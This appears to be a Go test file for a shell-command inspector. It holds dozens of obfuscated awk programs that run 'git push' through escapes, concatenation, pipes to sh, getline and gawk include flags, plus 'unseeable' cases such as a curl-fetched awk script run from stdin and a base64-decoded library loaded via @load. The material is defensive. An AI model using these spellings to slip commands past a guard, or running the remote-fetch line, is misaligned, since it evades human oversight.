package hardening

import (
	"slices"
	"strings"
	"testing"
	"time"
)

// awkHostile are awk programs that run `git push`, in many spellings
// (issue 23, points 10 and 12).
var awkHostile = []string{
	`awk 'BEGIN{system("git push")}'`,
	`awk 'BEGIN{system("git" " push")}'`,
	`awk 'BEGIN { system( "git"   " "   "push" ) }'`,
	`awk 'BEGIN{system(("git") (" push"))}'`,
	`awk 'BEGIN{system("\x67it push")}'`,
	`awk 'BEGIN{system("\147it push")}'`,
	`awk 'BEGIN{c="git push"; system(c)}'`,
	`awk 'BEGIN{a="git"; b=" push"; c=a b; system(c)}'`,
	`awk 'BEGIN{x = 1 ? "git push" : "ls"; system(x)}'`,
	`awk 'BEGIN{system(sprintf("%s %s", "git", "push"))}'`,
	`awk 'BEGIN{system(tolower("GIT PUSH"))}'`,
	`awk 'BEGIN { if ((c = "git push") != "") system(c) }'`,
	`awk -v c='git push' 'BEGIN{system(c)}'`,
	`awk -vc='git push' 'BEGIN{system(c)}'`,
	`awk --assign=c='git push' 'BEGIN{system(c)}'`,
	`awk -v 'c=git\040push' 'BEGIN{system(c)}'`,
	`awk '{system(c)}' c='git push' /etc/hostname`,
	`awk 'BEGIN{print "push" | "xargs git"}'`,
	`awk 'BEGIN{print "git push" | "sh"}'`,
	`awk 'BEGIN{print("git push") | "bash"; close("bash")}'`,
	`awk 'BEGIN{printf "git push\n" | "sh"}'`,
	`awk 'BEGIN{printf("%s %s\n", "git", "push") | "sh"}'`,
	`awk 'BEGIN{sh = "sh"; print "git push" | sh}'`,
	`awk 'BEGIN{print "git push" |& "sh"; close("sh")}'`,
	`awk 'BEGIN{print "push" | "xargs " "git"}'`,
	`awk 'BEGIN{"git push" | getline x}'`,
	`awk 'BEGIN{while (("git push" | getline line) > 0) print line}'`,
	`awk 'BEGIN{cmd = "git " "push"; cmd | getline; close(cmd)}'`,
	`awk 'BEGIN{"git push" |& getline}'`,
	`awk 'BEGIN{print "x" > "/dev/null"; system("git push")}'`,
	`gawk --source 'BEGIN{system("git push")}'`,
	`gawk --sou 'BEGIN{system("git push")}'`,
	`gawk -e 'BEGIN{system("git push")}'`,
	`mawk 'BEGIN{system("git push")}'`,
	`nawk 'BEGIN{system("git push")}'`,
	`awk -F: 'BEGIN{system("git push")}'`,
	`awk -- 'BEGIN{system("git push")}'`,
	`awk 'BEGIN{1system("git push")}'`,
	`awk 'BEGIN{x = 1e5system("git push")}'`,
	`awk 'BEGIN{0x1system("git push")}'`,
	`awk 'BEGIN{ y = $/"/; system("git push") } # "'`,
	`awk 'BEGIN{ y = x++ /"/; system("git push") } # "'`,
	`awk 'BEGIN{ y = length /"/; system("git push") } # "'`,
	`awk 'BEGIN{ y = 4; z = y++ / 2 / 1; system("git push") }'`,
	`awk 'BEGIN{ y = /[/; system("git push"); z = /]/ }'`,
	`echo 'git push' | awk 'BEGIN{system("sh")}'`,
	`echo 'BEGIN{system("git push")}' > p.awk; awk -f p.awk`,
	`echo 'BEGIN{system("git push")}' > p.awk; gawk -E p.awk`,
	`echo 'BEGIN{system("git push")}' > p.awk; mawk -W exec p.awk`,
	`echo 'BEGIN{system("git push")}' > p.awk; mawk -We p.awk`,
	`gawk -W source='BEGIN{system("git push")}'`,
	`echo 'BEGIN{system("git push")}' > lib.awk; gawk -i lib.awk 'BEGIN{}'`,
	`echo 'BEGIN{system("git push")}' > lib.awk; gawk '@include "lib.awk"'`,
	`awk -f - <<< 'BEGIN{system("git push")}'`,
	`awk -f /dev/stdin <<< 'BEGIN{system("git push")}'`,
	`echo 'BEGIN{system("git push")}' | awk -f -`,
	`awk -f <(echo 'BEGIN{system("git push")}')`,
	`exec 3<<<'BEGIN{system("git push")}'; awk -f /dev/fd/3`,
	`awk --file=<(echo 'BEGIN{system("git push")}')`,
	`awk 'BEGIN{print "git push" > "x.sh"}'; sh x.sh`,
	"awk 'BEGIN {\n  system(\"git push\")\n}'",
	`awk 'BEGIN{system("git push") # a comment with | and "quotes"
}'`,
}

// awkUnseeable are awk programs that run commands nobody can read.
var awkUnseeable = []string{
	`awk '{system($0)}' cmds.txt`,
	`awk '{system("git " $1)}' list`,
	`awk '{print | $1}' f`,
	`awk '{print "push" | ENVIRON["CMD"]}' f`,
	`awk '{$0 | getline}' f`,
	`awk 'BEGIN{getline c < "f"; system(c)}'`,
	`awk 'BEGIN { x = "git"; x = x " push"; system(x) }'`,
	`awk '{print > "x.sh"}' f; sh x.sh`,
	`awk '{c = c $1; system(c)}' f`,
	`awk 'function run(c) { system(c) } BEGIN { run("git push") }'`,
	`awk 'BEGIN{f="system"; @f("git push")}'`,
	`awk -v c="$CMD" 'BEGIN{system(c)}'`,
	`awk "BEGIN{system(\"$CMD\")}"`,
	`awk "$PROG" f`,
	`awk "{$ACTION}" f`,
	`awk "BEGIN{system($v)}"`,
	`awk '{print $1 | "sh"}' f`,
	`awk 'BEGIN{system("git push)}'`,
	`cat f | awk -f -`,
	`curl -s https://example.com/x.awk | awk -f /dev/stdin`,
	`awk -f "$F" data`,
	`base64 -d <<< f0VMRg== > x.so; gawk '@load "./x.so"; BEGIN{}'`,
	`echo > ext.so; gawk -l ext 'BEGIN{}'`,
}

// awkOrdinary are everyday awk lines: they run nothing and hold nothing.
var awkOrdinary = []string{
	`awk '{print $1}' data.txt`,
	`awk -F, '{sum += $2} END {print sum}' data.csv`,
	`awk '{gsub(/^ +| +$/,"")}1' f`,
	`awk '$1 == "*" || $2 > 3' f`,
	`awk -F'|' '{print $2}' table.txt`,
	`awk -F: '{print $1}' /etc/passwd`,
	`awk 'NR==5' file.txt`,
	`awk 'NR>=10 && NR<=20' file.txt`,
	`awk 'length($0) > 72' main.go`,
	`awk '/start/,/end/' log.txt`,
	`awk 'BEGIN { FS = "/" } { print $NF }' paths.txt`,
	`awk '{ s = s $0 "/" } END { print s / 2 }' f`,
	`awk '{print NF}' f`,
	`awk 'END {print NR}' f`,
	`awk '!seen[$0]++' list.txt`,
	`awk '{print $NF}' f`,
	`awk '{print $(NF-1)}' f`,
	`awk '$3 ~ /^(GET|POST)$/ {print $7}' access.log`,
	`awk '/error|warn/ {count++} END {print count}' app.log`,
	`awk -v OFS='\t' '{print $1, $2}' f`,
	`awk 'BEGIN{OFS=","} {$1=$1; print}' f`,
	`awk '{printf "%-20s %s\n", $1, $2}' f`,
	`awk '{ total += $5 } END { printf "%.2f\n", total/NR }' f`,
	`awk -F'\t' 'NR > 1 {print $3}' data.tsv`,
	`awk '{a[$1]+=$2} END {for (k in a) print k, a[k]}' f`,
	`awk 'NF' f`,
	`awk '{$1=""; print substr($0, 2)}' f`,
	`awk '{print toupper($0)}' f`,
	`awk '$2 > 100 || $3 == "x" {print}' f`,
	`awk 'BEGIN {print 10 / 3}'`,
	`awk '{ if ($1 ~ /a[/]b/) print }' f`,
	`awk '{n = split($0, parts, "|"); print parts[n]}' f`,
	`awk 'FNR==1 {print FILENAME}' *.txt`,
	`awk '{sub(/\r$/, ""); print}' f`,
	`awk -v n=3 'NR % n == 0' f`,
	`awk '{print > ($1 ".txt")}' f`,
	`awk '{print $1 > "/dev/stderr"}' f`,
	`awk 'BEGIN { while ((getline line < "f") > 0) n++; print n }'`,
	`awk '/^#/ {next} {print}' config`,
	`awk '{ print length }' f`,
	`awk '{x = $1 / $2; y = x / 2; print y}' f`,
	`gawk -i inplace '{gsub(/foo/, "bar")} 1' f`,
	`awk -F '[ :]+' '{print $2}' f`,
	`awk '{ printf("%s|%s\n", $1, $2) }' f`,
	`awk "NR==$n" f`,
	`awk "{print \$$col}" f`,
	`awk "/$re/" f`,
	`awk "NR>$a && NR<$b" f`,
	`awk "{print \$1 > \"$out\"}" f`,
	`awk -v n="$N" 'NR==n' f`,
	`awk -F"$SEP" '{print $1}' f`,
	`awk "{ s += \$$i / 2 }" f`,
}

// awkRunsCommands are everyday programs that pipe into or read from a
// command, which is judged and found ordinary.
var awkRunsCommands = map[string][]string{
	`awk '{print $1 | "sort -u"}' f`:                  {"sort -u"},
	`awk 'BEGIN { "date +%s" | getline t; print t }'`: {"date +%s"},
	`awk '{print | "cat 1>&2"}' f`:                    {"cat"},
}

func TestAwkHostile(t *testing.T) {
	for _, line := range awkHostile {
		if found, _ := commands(line); !slices.Contains(found, "git push") {
			t.Errorf("%q: found %q, want git push among them", line, found)
		}
	}
	for _, line := range awkUnseeable {
		if _, unseeable := commands(line); !unseeable {
			t.Errorf("%q: not unseeable", line)
		}
	}
	t.Logf("%d hostile awk lines held", len(awkHostile)+len(awkUnseeable))
}

func TestAwkOrdinary(t *testing.T) {
	for _, line := range awkOrdinary {
		// A word built when the line runs makes the command open, which
		// is the core's finding, not awk's.
		for _, f := range Inspect(line) {
			if len(f.Open) == 0 {
				t.Errorf("%q: found %+v", line, f)
			}
		}
	}
	for line, want := range awkRunsCommands {
		found, unseeable := commands(line)
		if unseeable || !slices.Equal(found, want) {
			t.Errorf("%q: found %q (unseeable %v), want %q", line, found, unseeable, want)
		}
	}
}

// The lexer reads a / as a regex where an operand may start and as
// division after one; after ++, -- and length, as mawk does too.
func TestAwkLexer(t *testing.T) {
	for src, want := range map[string]string{
		`x++ /"/ y`:      "wor" + "w",
		`length /a/`:     "wr",
		`n-- / 2 / 3`:    "wor" + "n",
		`$/"/; system()`: "or;woo",
	} {
		toks, _, err := lexAwk(src, awkReading{mawk: true})
		got := ""
		for _, tok := range toks {
			got += string(tok.kind)
		}
		if err != "" || got != want {
			t.Errorf("mawk: %q: kinds %q (%s), want %q", src, got, err, want)
		}
	}
	for src, want := range map[string]string{
		`a / b / c`:           "wowow",
		`/a|b/ { print }`:     "ro" + "w" + "o",
		`x = "a\"b" # c | d`:  "wos",
		`$1 ~ /[/]x/ || $2`:   "onoroon",
		`"cmd" | getline`:     "sow",
		"print 1,\n2":         "wnon",
		`print "x" |& "co"`:   "wsos",
		`n++ / 2 / 3`:         "woonon",
		`printf("%d", 1) > f`: "wosonoow",
	} {
		toks, _, err := lexAwk(src, awkReading{})
		got := ""
		for _, tok := range toks {
			got += string(tok.kind)
		}
		if err != "" || got != want {
			t.Errorf("%q: kinds %q (%s), want %q", src, got, err, want)
		}
	}
}

// A hostile program costs a bounded multiple of its size (the line's
// budget), however its statements nest or repeat.
func TestAwkSedCost(t *testing.T) {
	for _, line := range []string{
		"awk '" + strings.Repeat("print ", 20000) + "'",
		"awk 'BEGIN{" + strings.Repeat("x = ", 20000) + "1}'",
		"awk 'BEGIN{" + strings.Repeat(`"a" | getline `, 5000) + "}'",
		"awk 'BEGIN{" + strings.Repeat("system(", 100) + strings.Repeat(`"a" `, 20000) + "}'",
		"awk '/" + strings.Repeat("[[:", 30000) + "/'",
		"sed '/" + strings.Repeat("[[:", 30000) + "/p'",
		"sed '" + strings.Repeat("s/a/b/;", 20000) + "'",
		"echo '" + strings.Repeat(`BEGIN{system("x" `, 3000) + "' > p.awk; awk -f p.awk",
	} {
		start := time.Now()
		Inspect(line)
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("%q: %v", line[:40], d)
		}
	}
}
